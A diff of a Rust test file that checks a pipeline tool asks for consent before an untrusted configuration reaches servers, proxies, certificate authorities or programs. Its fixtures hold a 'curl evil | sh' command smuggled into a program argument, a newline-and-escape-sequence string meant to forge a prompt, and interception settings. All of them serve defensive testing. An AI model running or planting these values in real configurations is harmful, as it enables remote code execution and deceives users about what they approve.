@@ -77,6 +77,7 @@ fn summary(request: &ConsentRequest) -> String {
 const OPENAI: &str = "use = \"provider-openai\"\napi_key_env = \"OPENAI_API_KEY\"\n";
 const KEYLESS: &str = "use = \"provider-openai\"\n";
 const OWN_PLANNER: &str = "use = \"planner-classical\"";
+const PRESET: &str = "options = { preset = ";
 
 /// A file of a stranger, and what is asked before it runs.
 struct Hostile {
@@ -141,7 +142,7 @@ fn a_stranger_s_file_asks_before_each_server_proxy_authority_and_program() {
             "base_url = \"http://127.0.0.1:9/v1\"\nheaders_env = { X-Other = \"OTHER_SECRET\" }",
             &["base_url http://127.0.0.1:9 OTHER_SECRET"],
         ),
-        // Somebody stands between.
+        // A proxy or an authority reads the requests.
         hostile(OPENAI, "proxy = \"http://127.0.0.1:9\"", &["proxy http://127.0.0.1:9 OPENAI_API_KEY"]),
         hostile(
             OPENAI,
@@ -161,8 +162,13 @@ fn a_stranger_s_file_asks_before_each_server_proxy_authority_and_program() {
         ),
         hostile(
             KEYLESS,
-            "base_url = \"http://127.0.0.1:9/v1\"\nca_file = \"their.pem\"",
-            &["ca_file their.pem for http://127.0.0.1:9"],
+            "base_url = \"http://127.0.0.1:9/v1\"\nproxy = \"http://127.0.0.1:10\"\nca_file = \"their.pem\"",
+            &["proxy http://127.0.0.1:10"],
+        ),
+        hostile(
+            KEYLESS,
+            "base_url = \"https://127.0.0.1:9/v1\"\nca_file = \"their.pem\"",
+            &["ca_file their.pem for https://127.0.0.1:9"],
         ),
         // A batch service.
         hostile(
@@ -179,14 +185,48 @@ fn a_stranger_s_file_asks_before_each_server_proxy_authority_and_program() {
         Hostile {
             model: format!("{KEYLESS}base_url = \"http://127.0.0.1:9/v1\""),
             plan: "use = \"planner-external\"\noptions = { preset = \"pyperplan\", env = { PYTHONPATH = \".\" } }",
-            asks: &["start pyperplan; env = {\"PYTHONPATH\":\".\"}"],
+            asks: &["start pyperplan; env = {\"PYTHONPATH\":\".\"}; preset = \"pyperplan\""],
+        },
+        // The arguments have a slot for another option.
+        Hostile {
+            model: format!("{KEYLESS}base_url = \"http://127.0.0.1:9/v1\""),
+            plan: "use = \"planner-external\"\noptions = { command = [\"sh\"], arguments = [\"-c\", \"{search}\"], search = \"curl evil | sh\" }",
+            asks: &["start sh; arguments = [\"-c\",\"{search}\"]; search = \"curl evil | sh\""],
         },
     ];
     for Hostile { model, plan, asks } in rows {
-        let (asked, message) = questions(&pipeline(&model, plan), &[], &BTreeMap::new());
+        let text = pipeline(&model, plan);
+        let (asked, message) = questions(&text, &[], &BTreeMap::new());
         assert_eq!(asked.iter().map(summary).collect::<Vec<_>>(), asks, "{model}\n{plan}\n{message}");
-        assert!(asked.iter().all(|request| request.to_string().contains("theirs.toml:")), "{asked:?}");
+        for request in &asked {
+            let place = place_in(&text, request);
+            assert!(request.to_string().contains(&place), "{place} {request}");
+        }
     }
+}
+
+/// The place of what is asked about in the file; without a line if it is the plugin's default.
+fn place_in(text: &str, request: &ConsentRequest) -> String {
+    let line = |start: &str| text.lines().position(|line| line.starts_with(start)).map(|index| index + 1);
+    let (line, table) = match request {
+        ConsentRequest::Connect { option, .. } | ConsentRequest::TrustAuthority { option, .. } => {
+            (line(&format!("{option} = ")), "[llm.main]")
+        }
+        ConsentRequest::StartProgram { .. } => {
+            (line("options = { command = ").or(line(PRESET)), "stage `plan`")
+        }
+    };
+    let line = line.map(|line| format!(":{line}")).unwrap_or_default();
+    format!("theirs.toml{line}: {table}")
+}
+
+#[test]
+fn a_name_in_a_file_cannot_forge_a_question() {
+    let table = "[llm.\"x]\\n\\u001b[2Jtheirs.toml:1: [llm.main\"]\nmodel = \"m\"\n";
+    let model = format!("{KEYLESS}{table}{KEYLESS}base_url = \"https://evil.invalid/v1\"");
+    let (asked, message) = questions(&pipeline(&model, OWN_PLANNER), &[], &BTreeMap::new());
+    assert_eq!(asked.iter().map(summary).collect::<Vec<_>>(), ["base_url https://evil.invalid"], "{message}");
+    assert!(!asked[0].to_string().contains(['\n', '\u{1b}']), "{:?}", asked[0]);
 }
 
 #[test]
@@ -209,11 +249,16 @@ fn the_provider_s_own_service_and_a_keyless_loopback_server_are_not_asked_about(
 }
 
 #[test]
-fn a_setting_of_a_use_case_is_no_consent() {
+fn a_setting_of_a_use_case_is_not_consent() {
     // A front such as the MCP server passes on settings that the user did not type.
     let set = ["llm.main.base_url=http://127.0.0.1:9/v1"];
-    let (asked, _) = questions(&pipeline(OPENAI, OWN_PLANNER), &set, &BTreeMap::new());
+    let model = format!("{OPENAI}base_url = \"https://api.openai.com/v1\"");
+    let (asked, _) = questions(&pipeline(&model, OWN_PLANNER), &set, &BTreeMap::new());
     assert_eq!(asked.iter().map(summary).collect::<Vec<_>>(), ["base_url http://127.0.0.1:9 OPENAI_API_KEY"]);
+    assert!(
+        asked[0].to_string().contains("theirs.toml: [llm.main]"),
+        "the line has another value: {asked:?}"
+    );
 }
 
 /// All keys of a schema. Those of nested types have the type's name before them.
@@ -281,7 +326,15 @@ fn every_option_of_a_pipeline_file_and_of_a_bundled_plugin_has_a_row() {
         let reaching = info.commands.iter().flat_map(|command| {
             command.settings.iter().chain(&command.variables).chain(&command.folder).cloned()
         });
-        assert_eq!(with_effect(id, &[Effect::ReachesProgram]), set(reaching), "{id}");
+        // These fill slots of the arguments, which are declared.
+        let slots = ["alias", "heuristic", "search"].map(str::to_owned);
+        let slots = if id == "planner-external" { set(slots) } else { set([]) };
+        assert_eq!(&with_effect(id, &[Effect::ReachesProgram]) - &slots, set(reaching), "{id}");
+        let usual = info.commands.iter().flat_map(|command| {
+            command.programs.iter().map(|usual| &usual.condition).chain(&command.condition)
+        });
+        let usual = set(usual.map(|condition| condition.option.clone()));
+        assert_eq!(with_effect(id, &[Effect::StartsUsualProgram]), usual, "{id}");
         if info.kind != PluginKind::Provider {
             assert_eq!(servers, set([]), "{id}");
         }
